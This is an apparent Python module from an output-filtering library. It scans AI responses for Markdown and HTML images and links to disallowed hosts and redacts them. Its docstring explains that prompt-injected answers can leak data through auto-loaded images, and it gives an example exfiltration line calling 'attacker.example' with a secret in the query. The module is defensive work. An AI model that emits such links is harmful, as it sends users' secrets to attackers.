"""Images and links in answers: the channel by which an injected prompt sends away what it has read.

A renderer fetches an image without a click, so `![](https://attacker.example/?q=SECRET)` is all it takes. What is looked for:
inline images and links, reference definitions, autolinks, HTML elements that load or link, styles that load (CommonMark 0.31.2;
WHATWG HTML and URL). What hides a bracket or a host is read in the worst way. Code blocks are not exempt: where one ends depends
on the whole text before it.

Not looked for: bare URLs (some renderers link them, none loads them as images) and the content of `<style>` elements, which
renderers drop.
"""

from __future__ import annotations

from itertools import takewhile
from typing import TYPE_CHECKING, Final

from bartizan import Action, Finding
from bartizan_validation._reading import Reading
from bartizan_validation._spans import REACH
from bartizan_validation._triggers import TRIGGER, UNFINISHED, none_triggers, none_unfinished

if TYPE_CHECKING:
    from collections.abc import Iterable

    from bartizan_validation._hosts import Hosts

_PATIENCE: Final = 64
_NEAR: Final = 16


class MarkdownScanner:
    """Finds what leads to hosts that are not allowed; every finding is independent of all others."""

    pointwise = True
    hooks = frozenset({"post_response"})
    max_span = 2 * REACH + 8
    lookaround = REACH + 24

    def __init__(self, hosts: Hosts, labels: frozenset[str]) -> None:
        self._hosts = hosts
        self._labels = labels

    def scan(self, text: str, start: int = 0) -> Iterable[Finding]:
        """What is found from `start` on."""
        if none_triggers(text[start:]):
            return ()
        reading = Reading(text, self._hosts)
        found = []
        for trigger in TRIGGER.finditer(text, start):
            judged = reading.judged(trigger)
            if judged is not None and judged[1] >= start and judged[0] in self._labels:
                found.append(Finding(judged[0], Action.REDACT, start=judged[1], end=judged[2]))
        return found

    def pending(self, text: str, start: int) -> int:
        """Where the first construct begins that more text could still complete or change; the end of the text otherwise."""
        if none_unfinished(text[start:]):
            return len(text)
        reading = Reading(text, None)
        backlog = len(text) - start
        if backlog > _PATIENCE:
            # Where something near the middle of a long backlog is unfinished, it is not worth looking at all of it again: in a
            # text made of unfinished constructs each piece would cost as much.
            middle = start + backlog // 2
            near = takewhile(lambda trigger: trigger.start() < middle, UNFINISHED.finditer(text, middle - _NEAR))
            if any(map(reading.unfinished, near)):
                return start
            reading = Reading(text, None)  # which reads from left to right
        return next((trigger.start() for trigger in UNFINISHED.finditer(text, start) if reading.unfinished(trigger)), len(text))
